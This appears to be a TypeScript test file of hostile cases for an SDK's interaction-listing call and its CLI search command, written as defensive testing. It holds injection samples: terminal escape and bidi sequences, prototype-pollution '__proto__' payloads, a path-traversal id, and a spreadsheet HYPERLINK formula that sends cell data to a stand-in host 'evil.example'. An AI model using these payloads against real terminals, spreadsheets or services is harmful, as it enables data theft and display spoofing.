// Get a List of Interactions, hostile: bad filters the SDK must refuse before sending (one page and the
// iterators), answers it must turn into a typed error or a page the spec allows (never a crash, a silent
// short walk or one contact's records filed as another's), and the CLI's `search` printing server text
// (terminal escapes, formulas) only in safe form.
import { expect } from 'vitest';
import { restoreFormula } from '../../src/cli/format.ts';
import { runCli } from '../../src/cli/run.ts';
import {
  CxEngageError,
  type InteractionRecordPage,
  InvalidInputError,
  InvalidResponseError,
  iterateTenantInteractions,
  iterateTenantPages,
  listTenantInteractions,
  PaginationError,
  ResponseMismatchError,
  ResponseTooLargeError,
  ResponseValidationError,
} from '../../src/index.ts';
import { interactionRecord } from '../../src/testing/index.ts';
import { interaction } from '../helpers.ts';
import { memoryIo } from '../support/memory-io.ts';
import { CLI_KEY, CLI_SECRET } from './cli-cases.ts';
import {
  type CaseGroup,
  CONTACT,
  type Context,
  fetchClient,
  type HostileCase,
  TENANT,
  UNSAFE_ON_TERMINAL,
} from './corpus.ts';
import { answer, reply } from './wire-server.ts';

const JSON_TYPE = { 'content-type': 'application/json' };
const OTHER = '3c9e7d10-3b4a-4f5e-9d8c-7b6a5f4e3d2c';
/** OSC retitle, CSI clear, CR, bidi override and isolate, C1 CSI. */
const HOSTILE = '\x1b]0;pwned\x07\x1b[2J\r\u202eevil\u2066\x9b31m';

/** A page of the List: the fixture interactions as records, in the envelope, with `extra` over it. */
function listPage(count: number, extra: Partial<InteractionRecordPage> = {}): InteractionRecordPage {
  const results = Array.from({ length: count }, (_, i) => interactionRecord(interaction(i), TENANT, CONTACT));
  return {
    page: 0,
    limit: 10,
    offset: 0,
    total: count,
    tenantId: TENANT,
    tenantName: 'T',
    tenantTimezone: 'UTC',
    results,
    ...extra,
  };
}

const ok = (body: string) => new Response(body, { status: 200, headers: JSON_TYPE });

/** Runs one page and the walk (validate: 'off' for the walk: it checks what it walks by whatever the mode). */
async function both(answerText: () => string, params: Record<string, unknown> = {}) {
  const page = await listTenantInteractions(fetchClient(() => ok(answerText())).client, {
    tenantId: TENANT,
    ...params,
  }).then(
    (value) => ({ value }),
    (error: unknown) => ({ error }),
  );
  const walk = await (async () => {
    const out = [];
    for await (const r of iterateTenantInteractions(fetchClient(() => ok(answerText()), { validate: 'off' }).client, {
      tenantId: TENANT,
      ...params,
    }))
      out.push(r);
    return out;
  })().then(
    (value) => ({ value }),
    (error: unknown) => ({ error }),
  );
  return { page, walk };
}

/** The call and the walk each end in a typed error (of `Class`, when given), or hand over what the spec allows. */
function answerCase(
  input: string,
  text: () => string,
  expected: { page?: abstract new (...args: never[]) => Error; walk?: abstract new (...args: never[]) => Error },
  params: Record<string, unknown> = {},
): HostileCase {
  return {
    input,
    check: async () => {
      const { page, walk } = await both(text, params);
      for (const [outcome, Class] of [
        [page, expected.page],
        [walk, expected.walk],
      ] as const) {
        if ('error' in outcome) {
          expect(outcome.error).toBeInstanceOf(CxEngageError);
          if (Class) expect(outcome.error).toBeInstanceOf(Class);
        } else {
          expect(Class, 'a typed error was due').toBeUndefined();
        }
      }
      expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    },
  };
}

function inputCases(): CaseGroup {
  const refused = (name: string, params: Record<string, unknown>, param: string): HostileCase => ({
    input: name,
    check: async () => {
      const { client, state } = fetchClient(() => ok(JSON.stringify(listPage(1))));
      const page = await listTenantInteractions(client, { tenantId: TENANT, ...params } as never).catch(
        (e: unknown) => e,
      );
      expect(page).toBeInstanceOf(InvalidInputError);
      expect((page as InvalidInputError).param).toBe(param);
      if (param !== 'limit' && param !== 'page') {
        for (const iterate of [iterateTenantInteractions, iterateTenantPages]) {
          const error = (() => {
            try {
              iterate(client, { tenantId: TENANT, ...params } as never);
            } catch (e) {
              return e;
            }
          })();
          expect((error as InvalidInputError).param).toBe(param);
        }
      }
      expect(state.requests).toBe(0);
    },
  });
  return {
    name: 'Get a List of Interactions: inputs (refused, nothing sent)',
    cases: [
      ...(
        [
          ['a time with a newline', { startTimeRange: '2024-01-01T00:00:00Z\n' }, 'startTimeRange'],
          ['a time with a query string', { endTimeRange: '2024-01-01T00:00:00Z&contactId=x' }, 'endTimeRange'],
          ['a time 100 KB long', { startTimeRange: `2024-01-01T00:00:00.${'1'.repeat(100_000)}Z` }, 'startTimeRange'],
          ['month 13', { startTimeRange: '2024-13-01T00:00:00Z' }, 'startTimeRange'],
          ['February 29th of 2023', { startTimeRange: '2023-02-29T00:00:00Z' }, 'startTimeRange'],
          ['second 60', { endTimeRange: '2024-01-01T23:59:60Z' }, 'endTimeRange'],
          ['hour 24 with milliseconds', { endTimeRange: '2024-01-01T24:00:00.001Z' }, 'endTimeRange'],
          [
            'a range reversed by one millisecond',
            { startTimeRange: '2024-01-01T00:00:00.001Z', endTimeRange: '2024-01-01T00:00:00Z' },
            'endTimeRange',
          ],
          [
            'an object that only looks like a Date',
            { startTimeRange: { toISOString: () => '2024-01-01T00:00:00Z' } },
            'startTimeRange',
          ],
          ['a contact id with a path', { contactId: `${CONTACT}/../x` }, 'contactId'],
          ['a contact id with a space', { contactId: ` ${CONTACT}` }, 'contactId'],
          ['a hook id of whitespace', { hookId: '\t\n' }, 'hookId'],
          ['a hook type that is a number', { hookType: 7 }, 'hookType'],
          ['green as a string', { green: 'false' }, 'green'],
          ['includeNulls as 1', { includeNulls: 1 }, 'includeNulls'],
          ['limit 1001', { limit: 1001 }, 'limit'],
          ['limit Infinity', { limit: Number.POSITIVE_INFINITY }, 'limit'],
          ['page 2^53', { page: 2 ** 53 }, 'page'],
          ['"constructor"', { constructor: 1 }, 'constructor'],
          ['"__proto__"', JSON.parse('{"__proto__": {"polluted": 1}}'), '__proto__'],
          ['"hookName" (an example\'s spelling)', { hookName: 'x' }, 'hookName'],
          ['"type" (an example\'s spelling)', { type: 'zendesk' }, 'type'],
        ] as const
      ).map(([name, params, param]) => refused(name, params, param)),
    ],
  };
}

function answerCases(): CaseGroup {
  const deep = `${'{"details":'.repeat(100_000)}null${'}'.repeat(100_000)}`;
  const page = (extra: Partial<InteractionRecordPage> = {}, count = 2) => JSON.stringify(listPage(count, extra));
  return {
    name: 'Get a List of Interactions: answers',
    cases: [
      answerCase('a page of another tenant', () => page({ tenantId: OTHER }), {
        page: ResponseMismatchError,
        walk: ResponseMismatchError,
      }),
      answerCase(
        'a record of another tenant',
        () => page({ results: [interactionRecord(interaction(0), OTHER, CONTACT)] }, 1),
        { page: ResponseMismatchError, walk: ResponseMismatchError },
      ),
      answerCase(
        'with contactId: a record of another contact',
        () => page({ results: [interactionRecord(interaction(0), TENANT, OTHER)] }, 1),
        { page: ResponseMismatchError, walk: ResponseMismatchError },
        { contactId: CONTACT },
      ),
      answerCase(
        'with a window: records that started years before it',
        () => page(),
        { page: ResponseValidationError },
        { startTimeRange: '2030-01-01T00:00:00Z', endTimeRange: '2030-01-02T00:00:00Z' },
      ),
      answerCase(
        '`__proto__` keys in the envelope, a record and details',
        () => {
          const text = page();
          return text
            .replace('{"page"', '{"__proto__":{"polluted":1},"page"')
            .replace('"details":{', '"details":{"__proto__":{"polluted":1},');
        },
        {},
      ),
      answerCase('a total beyond 2^53', () => page({ total: 2 ** 53 + 2 }), {
        page: ResponseValidationError,
        walk: ResponseValidationError,
      }),
      answerCase('results that are not an array', () => page().replace(/"results":\[.*\]/, '"results":{"0":{}}'), {
        page: ResponseValidationError,
        walk: ResponseValidationError,
      }),
      answerCase('a record without an interactionId', () => page({ results: [{ tenantId: TENANT } as never] }, 1), {
        page: ResponseValidationError,
        walk: ResponseValidationError,
      }),
      answerCase('1001 records on a page of 1000', () => page({ limit: 1000, total: 1001 }, 1001), {
        page: ResponseValidationError,
        walk: PaginationError,
      }),
      answerCase(
        'a body nested 100,000 levels deep',
        () => page().replace('"results":[', `"deep":${deep},"results":[`),
        {},
      ),
      answerCase('HTML with a 200', () => '<html><body>Interactions</body></html>', {
        page: InvalidResponseError,
        walk: InvalidResponseError,
      }),
      {
        input: 'a page larger than maxResponseBytes (1000 records of 10 KB)',
        check: async () => {
          const big = JSON.stringify(listPage(1000, { limit: 1000 }).results[0]).replace(
            '"flowName":"',
            `"flowName":"${'x'.repeat(10_000)}`,
          );
          const body = `{"page":0,"limit":1000,"offset":0,"tenantId":"${TENANT}","tenantName":"T","tenantTimezone":"UTC","total":1000,"results":[${Array(1000).fill(big).join(',')}]}`;
          const { page: result } = await both(() => body);
          expect((result as { error: unknown }).error).toBeInstanceOf(ResponseTooLargeError);
        },
      },
    ],
  };
}

function searchCases(): CaseGroup {
  let ids = 0;
  const search = (
    input: string,
    body: string,
    argv: string[],
    check: (run: { code: number; stdout: string; stderr: string }) => void,
  ): HostileCase => {
    const id = `search${++ids}`;
    return {
      input,
      check: async ({ wire }: Context) => {
        const base = wire.serve(id, reply(answer('HTTP/1.1 200 OK', JSON_TYPE, body)));
        const { io, out } = memoryIo({ env: { CXENGAGE_API_KEY: CLI_KEY, CXENGAGE_API_SECRET: CLI_SECRET } });
        const code = await runCli(['search', '--tenant', TENANT, '--base-url', base, ...argv], io);
        expect(out.stderr).not.toMatch(UNSAFE_ON_TERMINAL);
        check({ code, ...out });
      },
    };
  };
  const hostile = listPage(1);
  const record = hostile.results[0]!;
  hostile.results[0] = {
    ...record,
    flowName: HOSTILE,
    customer: '=HYPERLINK("http://evil.example/?"&A1)',
    details: { ...record.details!, contactId: HOSTILE as never, channelType: '+cmd' },
  };
  const text = JSON.stringify(hostile);
  return {
    name: 'Get a List of Interactions: the CLI’s search',
    cases: [
      search('escapes and bidi in the table’s cells (flow, contact)', text, [], ({ code, stdout }) => {
        expect(code).toBe(0);
        expect(stdout).not.toMatch(UNSAFE_ON_TERMINAL);
        expect(stdout).toContain('^[]0;pwned^G^[[2J^M<U+202E>evil<U+2066><U+009B>31m');
      }),
      search('formulas in csv cells (customer, a nested value)', text, ['--format', 'csv'], ({ code, stdout }) => {
        expect(code).toBe(0);
        expect(stdout).toContain(`'=HYPERLINK(""http://evil.example/?""&A1)`);
        expect(restoreFormula(`'=HYPERLINK("x")`)).toBe('=HYPERLINK("x")');
      }),
      search('control characters in json and ndjson: escaped', text, ['--format', 'ndjson'], ({ code, stdout }) => {
        expect(code).toBe(0);
        expect(stdout).not.toMatch(UNSAFE_ON_TERMINAL);
        expect((JSON.parse(stdout) as { flowName: string }).flowName).toBe(HOSTILE);
      }),
      search(
        'a page of another tenant: exit 1, one line, nothing on stdout',
        JSON.stringify(listPage(1, { tenantId: OTHER })),
        [],
        ({ code, stdout, stderr }) => {
          expect([code, stdout]).toEqual([1, '']);
          expect(stderr.trimEnd().split('\n')).toHaveLength(1);
          expect(stderr).toMatch(/not for the request \(other_tenant\)/);
        },
      ),
    ],
  };
}

export const listGroups: CaseGroup[] = [inputCases(), answerCases(), searchCases()];
